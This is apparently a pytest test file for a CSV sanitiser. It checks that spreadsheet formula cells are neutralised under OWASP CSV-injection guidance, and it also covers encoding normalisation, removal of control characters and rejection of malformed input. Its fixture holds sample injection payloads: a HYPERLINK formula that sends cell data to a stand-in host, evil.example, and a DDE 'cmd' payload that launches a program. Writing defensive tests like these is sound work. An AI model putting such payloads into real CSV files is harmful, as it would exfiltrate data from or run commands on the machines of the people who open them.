"""CSV: formula cells neutralised (OWASP CSV injection), shape and encoding normalised."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from core.errors import VerificationFailed
from handlers.base import LabelStamp
from handlers.textual import CsvHandler
from handlers.textual.csvfile import is_formula_cell

DIRTY = (
    "名前,金額,メモ\r\n"
    "山田,-120,=HYPERLINK(\"http://evil.example/?\"&A1)\r\n"
    "佐藤,+81-3-1234-5678,＝1+1\r\n"
    "\"a,b\",@SUM(A1),\"  -2+3+cmd|' /C calc'!A0\"\r\n"
    ",\"\t=x\",-\r\n"
    "\"multi\nline\",\"\r=y\",ok\r\n"
)


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _clean(data: bytes) -> tuple[bytes, dict[str, int]]:
    with CsvHandler.open(data) as handler:
        cleaned = handler.clean()
        return cleaned, dict(handler.removed)


@pytest.mark.parametrize(("cell", "formula"), [
    ("=1+1", True), ("+cmd", True), ("-2+3", True), ("@SUM(A1)", True), ("\t=1", True),
    ("\rx", True), ("＝1+1", True), ("＠x", True), ("  =1", True), ("\u3000=1", True),
    ("-120", False), ("+81", False), ("-1,234.5", False), ("-", False), ("－１２", False),
    ("abc", False), ("", False), ("'=1+1", False), ("a=b", False),
])
def test_formula_cells(cell: str, formula: bool) -> None:
    assert is_formula_cell(cell) is formula


def test_formula_cells_are_neutralised_and_the_shape_kept() -> None:
    data = DIRTY.encode("cp932")
    with CsvHandler.open(data) as handler:
        inspection = handler.inspect()
        cleaned = handler.clean()
        assert handler.removed == {"csv_formula_cell": 7}
    assert inspection.active_content == {"csv_formula_cell": 7}
    assert inspection.properties["encoding"] == "cp932"
    original, rows = _rows(DIRTY.encode()), _rows(cleaned)
    assert [len(row) for row in rows] == [len(row) for row in original]
    assert rows[1] == ["山田", "-120", "'=HYPERLINK(\"http://evil.example/?\"&A1)"]
    assert rows[2] == ["佐藤", "'+81-3-1234-5678", "'＝1+1"]
    assert rows[4] == ["", "'\t=x", "-"]
    assert rows[5] == ["multi\nline", "'\r=y", "ok"]
    assert cleaned.startswith("名前,金額,メモ\r\n".encode())  # UTF-8, no BOM, CRLF kept
    assert CsvHandler.verify(cleaned).problems() == []


def test_clean_is_idempotent_and_verify_refuses_formulas() -> None:
    cleaned, _ = _clean(DIRTY.encode())
    assert _clean(cleaned) == (cleaned, {})
    with pytest.raises(VerificationFailed, match="csv_formula_cell"):
        CsvHandler.verify(DIRTY.encode())


@pytest.mark.parametrize(("delimiter", "name"), [("\t", "tab"), (";", "semicolon")])
def test_other_delimiters_are_kept(delimiter: str, name: str) -> None:
    data = delimiter.join(["a", "b", "c"]) + "\n" + delimiter.join(["1", "=2", "x,y"]) + "\n"
    with CsvHandler.open(data.encode()) as handler:
        assert handler.inspect().properties["delimiter"] == name
        cleaned = handler.clean()
    rows = list(csv.reader(io.StringIO(cleaned.decode(), newline=""), delimiter=delimiter))
    assert rows == [["a", "b", "c"], ["1", "'=2", "x,y"]]


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16", "euc_jp", "iso2022_jp"])
def test_encodings_become_utf8(codec: str) -> None:
    text = "氏名,電話\n山田,03-1234-5678\n"
    cleaned, removed = _clean(text.encode(codec))
    assert cleaned == text.encode("utf-8")
    assert removed == ({"byte_order_mark": 1} if codec in {"utf-8-sig", "utf-16"} else {})


def test_invisible_controls_are_removed() -> None:
    cleaned, removed = _clean("a,b\nx\x00y,\u202egpj.exe\n".encode())
    assert _rows(cleaned) == [["a", "b"], ["xy", "gpj.exe"]]
    assert removed == {"control_character": 1, "bidi_control": 1}


@pytest.mark.parametrize(("data", "code"), [
    (b'a,"b"c,d\n', "malformed_csv"),
    (b'a,"unterminated\n', "malformed_csv"),
    (b"a," + b"x" * 200_000 + b"\n", "csv_field_too_large"),
    (b"\xff\xfd\xfc\x80\x81" * 10, "unsupported_text_encoding"),
])
def test_malformed_or_oversized_csv_is_refused(data: bytes, code: str) -> None:
    with pytest.raises(Exception) as raised:
        CsvHandler.open(data)
    assert getattr(raised.value, "code", None) == code


def test_cell_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("handlers.textual.csvfile.MAX_CSV_CELLS", 5)
    with pytest.raises(Exception) as raised:
        CsvHandler.open(b"a,b,c\n1,2,3\n")
    assert getattr(raised.value, "code", None) == "too_many_csv_cells"


def test_no_label_is_written_into_csv() -> None:
    cleaned, _ = _clean(DIRTY.encode())
    stamp = LabelStamp({"confidentiality": "C2"}, "機密性2")
    assert CsvHandler.write_label(cleaned, stamp) == cleaned
    assert CsvHandler.read_label(cleaned) is None
    with pytest.raises(VerificationFailed):
        CsvHandler.write_label(DIRTY.encode(), stamp)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_evaluates_no_formula_after_cleaning(tmp_path: Path) -> None:
    """An independent reader: LibreOffice imports the CSV (evaluating formulas) and saves it
    as XLSX; openpyxl then reports which cells are formulas."""
    openpyxl = pytest.importorskip("openpyxl")
    cleaned, _ = _clean(DIRTY.encode())
    assert _formula_cells(tmp_path, "dirty", DIRTY.encode(), openpyxl)  # the check can fail
    assert _formula_cells(tmp_path, "clean", cleaned, openpyxl) == []


def _formula_cells(tmp_path: Path, stem: str, data: bytes, openpyxl: object) -> list[str]:
    source = tmp_path / f"{stem}.csv"
    source.write_bytes(data)
    profile = (tmp_path / "profile").as_uri()
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to",
         "xlsx:Calc Office Open XML", "--infilter=CSV:44,34,76,1", "--outdir", str(tmp_path),
         str(source)], check=True, capture_output=True, timeout=120)
    book = openpyxl.load_workbook(tmp_path / f"{stem}.xlsx")  # type: ignore[attr-defined]
    return [cell.coordinate for row in book.active.iter_rows() for cell in row
            if cell.data_type == "f"]
